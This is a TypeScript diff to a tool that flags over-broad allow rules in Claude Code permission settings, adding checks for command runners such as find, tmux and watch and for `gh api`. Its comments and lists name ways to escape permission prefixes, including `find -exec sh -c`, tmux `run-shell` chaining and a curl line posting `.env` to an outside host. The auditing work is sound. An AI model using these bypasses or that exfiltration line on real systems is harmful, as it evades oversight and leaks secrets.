@@ -146,7 +146,7 @@ export function denyRuleFor(entry: string): string {
 }
 
 /** How an allow rule is too broad. */
-export type Breadth = 'shell' | 'code' | 'files' | 'network' | 'destructive' | 'mcp'
+export type Breadth = 'shell' | 'code' | 'files' | 'network' | 'destructive' | 'github' | 'mcp'
 
 /** One over-broad allow rule. */
 export interface BroadRule {
@@ -154,6 +154,8 @@ export interface BroadRule {
   kind: Breadth
   /** Grants the whole tool (no pattern at all). */
   whole: boolean
+  /** Why this command grants more than it names, when the kind alone does not say (`find -exec` runs any command). */
+  why?: string
 }
 
 /** Interpreters: the bare prefix (or one of these flags) runs any code given on the command line. */
@@ -221,6 +223,40 @@ function installs(cmd: string, rest: string[]): boolean {
   const forms = INSTALLS[cmd]
   return forms !== undefined && forms.some((f) => f.length <= rest.length && f.every((w, i) => rest[i]?.toLowerCase() === w))
 }
+/**
+ * Programs whose documented options run any other command, so an allow rule for them grants every
+ * command (Claude Code checks only the command line it is given, not what the program starts):
+ * what the message says, and whether any fixed prefix still leaves room for that option
+ * (`anyPrefix`) or only the bare program and its options do (`screen -S dev:*`, not `screen -dm npm run dev:*`).
+ * Not here: the wrappers Claude Code strips before matching (`timeout`, `nohup`, `nice`, `time`,
+ * `stdbuf`, `command`, `builtin`, bare `xargs`), whose inner command must match a rule of its own.
+ */
+const COMMAND_RUNNERS: Record<string, { why: string; anyPrefix: boolean }> = {
+  // find(1): the actions `-exec`, `-execdir`, `-ok` and `-okdir` run a command per file, `-delete` deletes;
+  // an expression can always be extended, so `find . -name:*` allows `find . -name x -exec sh -c '…' \;`.
+  find: { why: 'any command through `find -exec`, and deleting through `find -delete`', anyPrefix: true },
+  // tmux(1): `new-session -d <command>`, `run-shell` and `send-keys` run any shell command, and a command
+  // sequence (`tmux ls \; run-shell '…'`) appends them to any tmux command line.
+  tmux: { why: 'any command through `tmux new-session -d`, `run-shell` or `send-keys`', anyPrefix: true },
+  // watch(1): joins its arguments and runs them with `sh -c`, so words added after any prefix run too.
+  watch: { why: 'any command through `watch`, which runs its arguments with `sh -c`', anyPrefix: true },
+  // screen(1): `screen [options] <command>` (`screen -dm <command>`) starts any command in a new window.
+  screen: { why: 'any command through `screen -dm <command>`', anyPrefix: false },
+  // GNU parallel(1): runs its command template through the shell for each input.
+  parallel: { why: 'any command through `parallel`, which runs its command template with the shell', anyPrefix: false },
+  // setsid(1), flock(1): run the command named after their options.
+  setsid: { why: 'any command through `setsid <command>`', anyPrefix: false },
+  flock: { why: 'any command through `flock <file> <command>`', anyPrefix: false }
+}
+
+/**
+ * `gh api` sends any REST or GraphQL request with the GitHub token gh holds (`-X DELETE`, `-X PUT`,
+ * `-f` fields): with the endpoint open it writes and deletes anything that token can reach. All of
+ * `gh` includes it (and `gh repo delete`). What that is depends on the token: a developer's own
+ * login on their machine, or a CI job's `GITHUB_TOKEN` scoped by its `permissions:`.
+ */
+const GH_API_WHY = 'any GitHub API request with your gh login through `gh api`, writes and deletes included'
+
 /** Commands that destroy or loosen when any argument is allowed. */
 const DESTRUCTIVE = new Set(['rm', 'chmod', 'chown', 'dd', 'shred', 'mkfs'])
 
@@ -286,6 +322,12 @@ export function classifyAllow(rule: string): BroadRule | undefined {
         return { rule, kind: 'code', whole: false }
       return undefined
     }
+    const runner = COMMAND_RUNNERS[cmd]
+    if (runner && (runner.anyPrefix || rest.every((w) => w.startsWith('-'))))
+      return { rule, kind: 'shell', whole: false, why: runner.why }
+    // `gh api` with the endpoint still open (only options fixed), or all of gh.
+    if (cmd === 'gh' && (rest.length === 0 || (rest[0] === 'api' && rest.slice(1).every((w) => w.startsWith('-')))))
+      return { rule, kind: 'github', whole: false, why: GH_API_WHY }
     if (NETWORK.has(cmd) && rest.length === 0) return { rule, kind: 'network', whole: false }
     // curl and wget take any number of URLs: after a fixed first URL the wildcard adds others
     // (`curl http://localhost:1 https://elsewhere -d @.env`), so the prefix limits nothing.
